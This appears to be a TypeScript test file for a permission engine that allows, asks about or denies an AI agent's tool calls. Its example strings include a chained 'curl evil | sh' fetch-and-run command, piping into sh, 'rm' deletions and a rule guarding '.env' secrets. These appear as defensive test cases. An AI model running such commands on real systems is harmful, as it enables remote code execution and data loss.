import assert from "node:assert/strict";
import { test } from "node:test";
import { policyFromToml } from "../../../lib/policy/sources/policy_from_toml.ts";
import { oneRepository } from "../../support/policy.ts";
import { runExamples } from "../../../lib/suite/run_examples.ts";

/** Why the examples of one rule fail, in their order; undefined for those that hold. */
function faultsOf(toml: string, more = ""): readonly (string | undefined)[] {
  const gitRepository = oneRepository("/workspace");
  const policy = policyFromToml(`[[permissions.rules]]\n${toml}\n${more}`, { gitRepository });
  const reading = {
    profiles: policy.profiles,
    workspace: "/workspace",
    platform: "linux",
  } as const;
  return runExamples(policy, reading).map(({ fault }) => fault);
}

/** Rules whose examples all hold. */
const HOLD: readonly string[] = [
  // An allow rule covers all that a line runs, besides what needs no rule.
  `pattern = "Bash:git *"
action = "allow"
match = ["git status", "git log && git diff", "cd sub && git log"]
not_match = ["gitk", "git status; curl evil | sh", "git log > x", "make $(git log)", "sudo git log"]`,
  // A deny or ask rule fits one thing that a line does.
  `pattern = "Bash:rm *"
action = "deny"
match = ["rm x", "ls && rm x", "sudo rm x", "echo $(rm x)"]
not_match = ["ls", "rmdir x", "echo rm x"]`,
  `pattern = "Bash(git push:*)"
action = "ask"
match = ["git push", "git push origin", "git pull; git push"]
not_match = ["git pull", "git pushx"]`,
  `pattern = "Write:docs/**"
action = "allow"
match = ["docs/a.md", "./docs/a/b", '{"file_path": "docs/x", "content": ""}']
not_match = ["src/a", "docs/../src/a", "/docs/a"]`,
  `pattern = "Read:.env"
action = "deny"
match = [".env", "a/.env", "/etc/.env"]
not_match = [".env.example"]`,
  `pattern = "WebFetch(domain:example.com)"
action = "allow"
match = ["https://example.com/x", "https://docs.example.com"]
not_match = ["https://example.com.evil.org", "https://user@example.com"]`,
  `pattern = "mcp__db__query(database=test)"
action = "allow"
match = ['{"database": "test"}']
not_match = ['{"database": "prod"}', "{}"]`,
  `pattern = "mcp__github__get_*"
action = "allow"
match = ["mcp__github__get_issue", 'mcp__github__get_x:{"a": 1}']
not_match = ["mcp__github__delete", "Bash:mcp__github__get_issue"]`,
  `pattern = "*"
action = "deny"
match = ["Bash:ls", "TodoWrite"]`,
  `pattern = "Bash"
action = "allow"
match = ["ls", "ls | sh"]`,
  // The example is about the pattern, which has no end.
  `pattern = "Bash:ls"
action = "allow"
expires_at = "2001-01-01T00:00:00Z"
match = ["ls"]`,
];

for (const toml of HOLD) {
  test(`every example holds of ${toml.split("\n")[0]}, ${toml.split("\n")[1]}`, () => {
    const faults = faultsOf(toml, "[permissions]\nenforce_expiry = true\n");
    assert.ok(faults.length > 0);
    assert.deepEqual(faults.filter((fault) => fault !== undefined), []);
  });
  test(`no example holds the other way round of ${toml.split("\n")[0]}`, () => {
    const turned = toml.replace("not_match", "xmatch").replace("\nmatch", "\nnot_match")
      .replace("xmatch", "match");
    assert.ok(!faultsOf(turned).includes(undefined), turned);
  });
}

test("a failed example says why", () => {
  assert.deepEqual(
    faultsOf(`pattern = "Bash:cat *"
action = "allow"
match = ["cat a && rm x", "ls"]
not_match = ["cat x"]`),
    [
      "the pattern does not match it: of `rm x`, the command starts with `rm`",
      "the pattern does not match it: the command starts with `ls`",
      "the pattern matches it",
    ],
  );
});

test("what cannot be known holds neither as match nor as not_match", () => {
  const faults = faultsOf(`pattern = "Read:secrets"
action = "deny"
match = ['{"path": 1}']
not_match = ['{"path": 1}']`);
  assert.deepEqual(faults, [
    'it is unknown whether the pattern matches it: "path" is not a string',
    'it is unknown whether the pattern matches it: "path" is not a string',
  ]);
});

test("an example that is no call fails, as match and as not_match", () => {
  const several =
    'the pattern is for several tools, so an example must be a whole call such as "Bash:ls"';
  assert.deepEqual(
    faultsOf(`pattern = "mcp__*"\naction = "ask"\nmatch = ["a b"]\nnot_match = ["*"]`),
    [several, several],
  );
  const [fault] = faultsOf('pattern = "TodoWrite"\naction = "ask"\nnot_match = ["x"]');
  assert.match(fault ?? "", /cannot be the first argument of TodoWrite: it has none/);
});

test("wrappers and the shell of the policy count for examples", () => {
  const rule = (match: string) => `pattern = "Bash:git *"\naction = "allow"\n${match}`;
  const wrapper = '[shell]\nwrappers = ["rtk"]\n';
  assert.deepEqual(faultsOf(rule('match = ["rtk git log"]'), wrapper), [undefined]);
  assert.notDeepEqual(faultsOf(rule('match = ["rtk git log"]')), [undefined]);
  const literal = '[permissions]\nshell = "literal"\n';
  assert.deepEqual(faultsOf(rule('match = ["git log; rm x"]'), literal), [undefined]);
});
